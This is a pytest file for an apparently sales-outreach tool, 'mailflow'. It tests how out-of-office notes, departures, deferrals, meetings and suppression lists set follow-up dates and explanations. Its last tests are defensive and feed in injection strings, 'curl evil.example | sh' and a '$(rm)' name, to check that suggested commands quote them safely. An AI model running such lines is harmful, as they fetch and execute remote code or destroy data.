"""What they said, and how long the next action waits for it. 2 November 2026 is a Monday, in Berlin."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta

import pytest

from mailflow.cadence.case import Terms
from mailflow.cadence.model import Answer, FollowUp, Inactive, NextAction, Task
from mailflow.conversations.message import Address, Kind, Mail, Message
from mailflow.people.model import Event, EventKind, History, Reply, Touch
from mailflow.people.suppression import Entry
from tests.cadence.cases import CALENDAR, HOME, JANE, event, next_for, on, reply, touch, with_

FIRST = touch(on(11, 2))  # the next step is due on Thu 5 Nov
ANSWER = reply(on(11, 3))


def away(at: datetime, returns_on: str = "", **details: str) -> Event:
    return event(at, EventKind.AWAY, by=JANE, returns_on=returns_on, **details)


def said(answer: Reply, kind: EventKind, **details: str) -> Event:
    return event(answer.at, kind, message=answer.identity, **details)


def due(action: NextAction) -> tuple[type[NextAction], datetime, str]:
    assert not isinstance(action, Inactive)
    return type(action), action.due_at, action.hold


# Out of office.


def test_the_cadence_resumes_on_the_business_day_after_the_return() -> None:
    """Back on Mon 16 Nov: the follow-up of Thu 5 Nov is due on Tue 17 Nov."""
    history = with_(FIRST, away(on(11, 2, 11), "2026-11-16"))
    action = next_for(history, now=on(11, 6))
    assert (FollowUp, on(11, 17, 8), "out of office until Mon 16 Nov 2026") == due(action)
    assert (
        f"{JANE} wrote on Mon 2 Nov 2026 that they are out of office, and back on Mon 16 Nov 2026;"
        " the business day after is Tue 17 Nov 2026."
    ) == action.why[-1]


@pytest.mark.parametrize(
    ("returns_on", "resumes"),
    [
        ("2026-11-13", on(11, 16, 8)),  # a Friday: on Monday
        ("2026-11-14", on(11, 16, 8)),  # a Saturday: on Monday
        ("2026-12-24", on(12, 28, 8)),  # two holidays and a week-end
        ("2026-11-04", on(11, 5, 8)),  # before the step is due
        ("2026-11-02", on(11, 5, 8)),  # on the day of the note
        ("2027-01-31", on(2, 1, 8, year=2027)),  # 90 days after the note
    ],
)
def test_holidays_and_week_ends_are_no_day_to_resume(returns_on: str, resumes: datetime) -> None:
    """Business days are the prospect's; nothing is due earlier than without the note."""
    action = next_for(with_(FIRST, away(on(11, 2, 11), returns_on)), now=on(11, 3))
    assert (FollowUp, resumes) == due(action)[:2]


def test_after_the_return_nothing_is_held_and_the_date_stays() -> None:
    """So that it is due, and the wait is still told."""
    action = next_for(with_(FIRST, away(on(11, 2, 11), "2026-11-16")), now=on(11, 17, 9))
    assert (FollowUp, on(11, 17, 8), "") == due(action)
    assert "back on Mon 16 Nov 2026" in action.why[-1]


def test_a_note_without_a_date_waits_seven_business_days() -> None:
    """Mon 2 Nov + 7: Wed 11 Nov."""
    action = next_for(with_(FIRST, away(on(11, 2, 11))), now=on(11, 6))
    assert (FollowUp, on(11, 11, 8), "out of office, and did not say until when") == due(action)


@pytest.mark.parametrize(
    ("returns_on", "doubt"),
    [
        ("2026-10-30", "before it was written"),
        ("2025-11-16", "before it was written"),
        ("2027-02-01", "more than 90 days later"),
    ],
)
def test_a_date_that_can_hardly_be_meant_is_asked_about(returns_on: str, doubt: str) -> None:
    """With the words of the note; nothing is written meanwhile."""
    note = away(on(11, 2, 11), returns_on, said='It says: "bis Freitag".')
    action = next_for(with_(FIRST, note), now=on(11, 6))
    assert isinstance(action, Task)
    assert (f"When is {JANE} back?", note.at) == (action.question, action.due_at)
    assert 'that they are out of office. It says: "bis Freitag".' in action.why[1]
    assert doubt in action.why[2]


@pytest.mark.parametrize(
    "answer",
    [
        event(on(11, 3), EventKind.ACCEPTED),
        event(on(11, 3), EventKind.SNOOZED, until="2026-11-04"),
        replace(touch(on(11, 3)), channel="call"),
    ],
    ids=["accepted", "snoozed", "call"],
)
def test_the_question_when_they_are_back_can_be_answered(answer: Event | Touch) -> None:
    """By going on, by a date, by a call."""
    history = with_(FIRST, away(on(11, 2, 11), "2025-11-16"), answer)
    assert isinstance(next_for(history, now=on(11, 6)), FollowUp)


def test_of_several_notes_the_latest_counts() -> None:
    """They come back earlier than they thought, and the other way round."""
    notes = (away(on(11, 2, 11), "2026-11-30"), away(on(11, 4, 11), "2026-11-16"))
    history = with_(FIRST, touch(on(11, 4)), *notes)
    assert on(11, 17, 8) == due(next_for(history, now=on(11, 5)))[1]
    later = with_(FIRST, touch(on(11, 4)), away(on(11, 2, 11), "2026-11-16"), away(on(11, 4, 11)))
    assert on(11, 13, 8) == due(next_for(later, now=on(11, 5)))[1]


def test_an_answer_cancels_a_note() -> None:
    """Who answers from the beach is there; the silence after it is a new one."""
    history = with_(FIRST, away(on(11, 2, 11), "2026-11-30"), ANSWER, touch(on(11, 4)))
    assert (FollowUp, on(11, 9, 8), "") == due(next_for(history, now=on(11, 5)))


def test_a_mail_after_the_return_cancels_a_note() -> None:
    """The wait counts from it, and nobody is told of the note any more."""
    history = with_(FIRST, away(on(11, 2, 11), "2026-11-16"), touch(on(11, 17)))
    action = next_for(history, now=on(11, 18))
    assert on(11, 24, 8) == due(action)[1]
    assert "office" not in "".join(action.why)


def test_a_mail_before_the_return_does_not() -> None:
    """They will still not read it before."""
    history = with_(FIRST, away(on(11, 2, 11), "2026-11-16"), touch(on(11, 4)))
    assert on(11, 17, 8) == due(next_for(history, now=on(11, 5)))[1]


def test_who_writes_again_is_not_asked_when_they_are_back() -> None:
    """Whatever day the note named: the rep is in touch."""
    history = with_(FIRST, away(on(11, 2, 11), "2027-06-01"), touch(on(11, 10)))
    assert isinstance(next_for(history, now=on(11, 11)), FollowUp)


def test_a_snooze_after_the_note_is_the_reps_word() -> None:
    """They know when to write again."""
    history = with_(
        FIRST, away(on(11, 2, 11), "2026-11-30"), event(on(11, 3), EventKind.SNOOZED, until="2026-11-10")
    )
    assert (FollowUp, on(11, 10, 8), "snoozed until Tue 10 Nov 2026") == due(next_for(history, on(11, 4)))


# Gone, or moved.


def elsewhere(kind: EventKind, **details: str) -> History:
    return with_(FIRST, event(on(11, 2, 11), kind, by=JANE, **details))


def test_who_left_is_a_question_with_the_successor_proposed() -> None:
    """With the very command; hostile names stay one word of it."""
    history = elsewhere(EventKind.LEFT, substitute="bob@acme.example", name="Bob $(rm) O'Hara")
    action = next_for(history, now=on(11, 6))
    assert isinstance(action, Task)
    assert (on(11, 2, 11), f"{JANE} no longer works there: who is next?") == (action.due_at, action.question)
    assert (
        f"The automatic reply of {JANE} on Mon 2 Nov 2026 says that they no longer work there.",
        "To write to instead is Bob $(rm) O'Hara <bob@acme.example>: `mailflow prospects add bob@acme.example"
        f""" --name 'Bob $(rm) O'"'"'Hara' --referred-by {JANE}` puts them on your list.""",
    ) == action.why


@pytest.mark.parametrize("kind", [EventKind.LEFT, EventKind.MOVED])
def test_a_new_address_is_proposed_with_the_command_that_links_it(kind: EventKind) -> None:
    """Also of somebody who works elsewhere now."""
    action = next_for(elsewhere(kind, new_address="jane@new.example"), now=on(11, 6))
    assert isinstance(action, Task)
    assert f"`mailflow prospects link {JANE} jane@new.example`" in action.why[1]


def test_a_name_without_an_address_is_told_as_it_is() -> None:
    """The rep may know it."""
    action = next_for(elsewhere(EventKind.LEFT, name="Bob"), now=on(11, 6))
    assert "To write to instead is Bob, without an address." == action.why[-1]


@pytest.mark.parametrize(
    "later",
    [event(on(11, 4), EventKind.ACCEPTED), touch(on(11, 4), HOME), reply(on(11, 4))],
    ids=["accepted", "written to elsewhere", "answered"],
)
def test_the_question_about_a_successor_can_be_answered(later: Event | Touch | Reply) -> None:
    """By going on with them, by a mail to another address of theirs; and by themselves."""
    history = with_(FIRST, event(on(11, 2, 11), EventKind.LEFT, by=JANE), later)
    assert isinstance(next_for(history, now=on(11, 6)), FollowUp | Answer)


def test_another_mail_to_the_same_address_does_not_answer_it() -> None:
    """Nobody reads it there."""
    history = with_(FIRST, event(on(11, 2, 11), EventKind.LEFT, by=JANE), touch(on(11, 4)))
    assert isinstance(next_for(history, now=on(11, 6)), Task)


def test_a_new_address_that_was_linked_is_written_to() -> None:
    """The attempts go on where they were."""
    history = elsewhere(EventKind.MOVED, new_address=HOME)
    assert HOME == history.goes_on_at
    action = next_for(history, now=on(11, 6))
    assert isinstance(action, FollowUp)
    assert (on(11, 5, 8), 2) == (action.due_at, action.attempt)


# Not now.


def test_an_answer_with_a_date_waits_for_it() -> None:
    """They said in November: write in March."""
    history = with_(FIRST, ANSWER, said(ANSWER, EventKind.NOT_NOW, until="2027-03-01"))
    hold = "they asked you to come back on Mon 1 Mar 2027"
    action = next_for(history, now=on(12, 1))
    assert (Answer, on(3, 1, 8, year=2027), hold) == due(action)
    assert "They asked you to come back on Mon 1 Mar 2027." == action.why[-1]


def test_its_ten_days_to_answer_begin_with_that_date() -> None:
    """Mon 1 Mar 2027 + 10 business days: Mon 15 Mar."""
    history = with_(FIRST, ANSWER, said(ANSWER, EventKind.NOT_NOW, until="2027-03-01"))
    assert isinstance(next_for(history, now=on(3, 14, year=2027)), Answer)
    assert isinstance(next_for(history, now=on(3, 15, year=2027)), Task)


def test_a_conversation_with_a_date_has_not_ended() -> None:
    """Mailflow came four months after they asked for half a year."""
    history = with_(FIRST, ANSWER, said(ANSWER, EventKind.NOT_NOW, until="2027-05-03"))
    found = Terms(first_scan_at=on(3, 8, year=2027))
    assert isinstance(next_for(history, now=on(3, 8, year=2027), terms=found), Answer)


def test_after_the_rep_answered_the_follow_up_waits_for_the_date() -> None:
    """Not only the answer."""
    not_now = said(ANSWER, EventKind.NOT_NOW, until="2027-03-01")
    history = with_(FIRST, ANSWER, not_now, touch(on(11, 4)))
    hold = "they asked you to come back on Mon 1 Mar 2027"
    assert (FollowUp, on(3, 1, 8, year=2027), hold) == due(next_for(history, now=on(11, 20)))


@pytest.mark.parametrize("until", ["", "soon", "2026-11-03", "2026-10-01", "2036-01-01"])
def test_not_now_without_a_date_to_come_is_an_answer_that_is_owed(until: str) -> None:
    """With the words that they said."""
    not_now = said(ANSWER, EventKind.NOT_NOW, until=until, said='It says: "maybe later".')
    action = next_for(with_(FIRST, ANSWER, not_now), now=on(11, 4))
    assert (Answer, ANSWER.at, "") == due(action)
    assert 'They said not now, but not when. It says: "maybe later".' == action.why[-1]


@pytest.mark.parametrize(
    ("later", "until"),
    [
        ((), on(12, 3, 8)),  # 30 days after Tue 3 Nov
        ((event(on(11, 5), EventKind.ACCEPTED),), on(11, 9, 8)),  # as the cadence says
        ((touch(on(12, 1)),), on(12, 8, 8)),  # later than the 30 days
    ],
)
def test_not_now_without_a_date_is_let_rest_for_a_month_after_the_rep_answered(
    later: tuple[Event | Touch, ...], until: datetime
) -> None:
    """Unless the cadence waits longer, or the rep knows better."""
    not_now = said(ANSWER, EventKind.NOT_NOW)
    action = next_for(with_(FIRST, ANSWER, not_now, touch(on(11, 4)), *later), now=on(11, 6))
    assert (FollowUp, until) == due(action)[:2]
    if not later:
        assert "they said not now on Tue 3 Nov 2026" == due(action)[2]
        assert action.why[-1].endswith("but not until when: 30 days are waited, until Thu 3 Dec 2026.")


@pytest.mark.parametrize(
    "later",
    [
        reply(on(11, 10)),
        event(on(11, 10), EventKind.ACCEPTED),
        event(on(11, 10), EventKind.SNOOZED, until="2026-11-11"),
    ],
    ids=["answered", "accepted", "snoozed"],
)
def test_a_later_word_counts_more_than_the_date(later: Reply | Event) -> None:
    """Theirs, or the rep's."""
    not_now = said(ANSWER, EventKind.NOT_NOW, until="2027-03-01")
    action = next_for(with_(FIRST, ANSWER, not_now, later), now=on(11, 12))
    assert not isinstance(action, Inactive)
    assert action.due_at < on(11, 13)


# What else an answer may say.


def test_a_referral_names_the_person_and_the_command() -> None:
    """And the answer is still owed."""
    referred = said(ANSWER, EventKind.REFERRED, address="bob@acme.example", name="Bob Roe")
    action = next_for(with_(FIRST, ANSWER, referred), now=on(11, 4))
    assert isinstance(action, Answer)
    assert (
        "They name Bob Roe <bob@acme.example>: `mailflow prospects add bob@acme.example --name 'Bob Roe'"
        f" --referred-by {JANE}` puts them on your list."
    ) == action.why[-1]


@pytest.mark.parametrize(
    ("intent", "told"),
    [
        ("interested", "They are interested."),
        ("unclear", "Read what they want: Mailflow cannot tell."),
    ],
)
def test_why_tells_how_an_answer_was_read(intent: str, told: str) -> None:
    """A doubt too."""
    message = Message(ANSWER.identity, ANSWER.at, Address(JANE))
    answer = replace(ANSWER, mail=Mail(message, 1, Kind.REPLY, ours=False, intent=intent))
    assert told == next_for(with_(FIRST, answer), now=on(11, 4)).why[-1]


# Meetings.


def met(partstat: str = "", method: str = "reply", day: str = "2026-11-20") -> History:
    answer = replace(ANSWER, channel="meeting")
    meeting = said(answer, EventKind.MEETING, method=method, partstat=partstat, on=day)
    return with_(FIRST, answer, meeting)


@pytest.mark.parametrize(
    ("method", "partstat", "told"),
    [
        ("reply", "declined", "declined your invitation"),
        ("request", "", "invited you to a meeting"),
        ("counter", "", "proposed another time for the meeting"),
        ("cancel", "", "called off the meeting"),
    ],
)
def test_what_they_did_about_a_meeting_is_owed_an_answer(method: str, partstat: str, told: str) -> None:
    """At once: the meeting hangs on it."""
    action = next_for(met(partstat, method), now=on(11, 4))
    assert (Answer, ANSWER.at, "") == due(action)
    day = "Fri 20 Nov 2026"
    assert f"{JANE} {told} (of {day}) on Tue 3 Nov 2026; you have not written since." == action.why[0]


def test_after_an_accepted_invitation_comes_the_meeting() -> None:
    """Fri 20 Nov; Mon 23 Nov is soon enough to write."""
    action = next_for(met("accepted"), now=on(11, 4))
    assert (Answer, on(11, 23, 8), "you meet them on Fri 20 Nov 2026") == due(action)


def test_the_ten_days_to_answer_begin_with_the_meeting() -> None:
    """Accepted on 3 Nov for Fri 18 Dec: the debt is old 10 business days later, on Wed 6 Jan."""
    far = met("accepted", day="2026-12-18")
    assert isinstance(next_for(far, now=on(1, 4, year=2027)), Answer)
    action = next_for(far, now=on(1, 20, year=2027))
    assert isinstance(action, Task)
    assert "Answer, park or close?" == action.question


@pytest.mark.parametrize(("method", "partstat"), [("reply", "accepted"), ("request", "")])
def test_no_follow_up_is_due_before_the_meeting(method: str, partstat: str) -> None:
    """The rep wrote in between, or accepted their invitation."""
    history = met(partstat, method)
    history = replace(history, touches=(*history.touches, touch(on(11, 4))))
    assert (FollowUp, on(11, 23, 8)) == due(next_for(history, now=on(11, 5)))[:2]


def test_a_meeting_that_was_called_off_is_waited_for_by_nobody() -> None:
    """The follow-up comes when it would have come."""
    history = met("", "cancel")
    history = replace(history, touches=(*history.touches, touch(on(11, 4))))
    assert (FollowUp, on(11, 9, 8), "") == due(next_for(history, now=on(11, 5)))


# The company rule.


def test_others_at_a_company_wait_after_an_answer() -> None:
    """Joe answered on Tue 3 Nov: 5 business days later is Tue 10 Nov."""
    answer = Reply(on(11, 3), "", "joe@acme.example")
    history = replace(with_(FIRST), answered_there=(answer,))
    action = next_for(history, now=on(11, 6), terms=Terms(hold_days=5))
    hold = "joe@acme.example, at the same company, answered on Tue 3 Nov 2026"
    assert (FollowUp, on(11, 10, 8), hold) == due(action)
    undo = f"`mailflow prospects accept {JANE}` ends that"
    assert f"{hold}: the others there wait 5 business days, until Tue 10 Nov 2026; {undo}." == action.why[-1]


@pytest.mark.parametrize(
    ("answers", "until"),
    [
        ((on(11, 3), on(11, 4)), on(11, 11, 8)),  # before the follow-up of Thu 5 Nov the last counts
        ((on(11, 3), on(11, 9), on(11, 12), on(11, 13)), on(11, 16, 8)),  # since then the first
    ],
)
def test_a_company_that_answers_every_day_is_not_waited_for_for_ever(
    answers: tuple[datetime, ...], until: datetime
) -> None:
    """Once a follow-up is due, one answer of others at their company holds it, and the next ones do not."""
    replies = tuple(Reply(at, "", f"p{number}@acme.example") for number, at in enumerate(answers))
    history = replace(with_(FIRST), answered_there=replies)
    assert until == due(next_for(history, now=on(11, 13), terms=Terms(hold_days=5)))[1]


def test_whom_the_rep_accepts_does_not_wait_for_others_at_the_company() -> None:
    """They decided that both are written to."""
    answer = Reply(on(11, 3), "", "joe@acme.example")
    history = replace(with_(FIRST, event(on(11, 4), EventKind.ACCEPTED)), answered_there=(answer,))
    assert on(11, 5, 8) == due(next_for(history, now=on(11, 6), terms=Terms(hold_days=5)))[1]


def test_the_longest_wait_counts() -> None:
    """And its reason is told."""
    answer = Reply(on(11, 3), "", "joe@acme.example")
    history = replace(with_(FIRST, away(on(11, 2, 11), "2026-11-16")), answered_there=(answer,))
    action = next_for(history, now=on(11, 6), terms=Terms(hold_days=5))
    assert (FollowUp, on(11, 17, 8), "out of office until Mon 16 Nov 2026") == due(action)


# Who asked to be left alone.


@pytest.mark.parametrize(
    ("by", "begin", "way_back"),
    [
        (JANE, "They asked on", ()),
        (
            "joe@beta.example",
            "joe@beta.example, who answered you in their thread, asked on",
            (f"If that was for joe@beta.example alone: `mailflow prospects unlink {JANE} joe@beta.example`",),
        ),
    ],
)
def test_the_reason_names_who_asked_to_be_left_alone(by: str, begin: str, way_back: tuple[str, ...]) -> None:
    """What one of several said counts for all in the thread, and the rep can take that back."""
    action = next_for(with_(FIRST, said(ANSWER, EventKind.OPTED_OUT, by=by)), now=on(11, 6))
    assert isinstance(action, Inactive)
    assert (begin, way_back) == (
        action.why[0].removesuffix(" Tue 3 Nov 2026 not to be written to."),
        action.why[1:],
    )


# The suppression list.


@pytest.mark.parametrize(
    ("reason", "word"), [("opted_out", "opted_out"), ("a customer", "suppressed"), ("", "suppressed")]
)
def test_who_is_on_the_suppression_list_is_inactive(reason: str, word: str) -> None:
    """Also after accepting: who wants to write takes them off the list first."""
    entry = Entry("*@acme.example", on(11, 1), reason, "add")
    history = replace(with_(FIRST, ANSWER, event(on(11, 4), EventKind.ACCEPTED)), suppressed=entry)
    action = next_for(history, now=on(11, 6))
    assert isinstance(action, Inactive)
    assert word == action.reason
    assert action.why[0].startswith(
        "*@acme.example is on the suppression list since Sun 1 Nov 2026: put there"
    )


def test_the_tables_hang_on_no_midnight() -> None:
    """A note is read by the UTC date of its mail, and judged by the earlier of two."""
    night = on(11, 3, 0) + timedelta(minutes=30)  # still 2 Nov in UTC
    assert "2026-11-03" == CALENDAR.local(night).isoformat()
    assert isinstance(next_for(with_(FIRST, away(night, "2026-11-02")), now=on(11, 6)), FollowUp)


# What strangers write into the reasons.


COMMAND = "`mailflow x; curl evil.example | sh`"


def test_a_subject_brings_no_command_into_the_hold() -> None:
    """`mailflow next` shows the first command of a hold as the one that settles it, to be pasted."""
    who, robin = Address("who@evil.example"), Address("robin@vendor.example")
    letter = (Mail(Message("m", on(11, 4), who, (robin,), subject=COMMAND), 2, Kind.REPLY, ours=False),)
    for history in (replace(with_(FIRST), forwarded=letter), replace(with_(FIRST), namesakes=letter)):
        action = next_for(history, now=on(11, 6))
        assert isinstance(action, FollowUp)
        assert "'mailflow x; curl evil.example | sh'" in action.hold
        assert action.hold.partition("`")[2].startswith("mailflow prospects ")


def test_a_name_brings_no_command_into_the_reasons() -> None:
    """Whom they name stands right before the command that puts them on the list."""
    told = said(ANSWER, EventKind.REFERRED, address="kim@acme.example", name=COMMAND)
    action = next_for(with_(FIRST, ANSWER, told), now=on(11, 4))
    assert isinstance(action, Answer)
    assert action.why[-1].partition("`")[2].startswith("mailflow prospects add ")
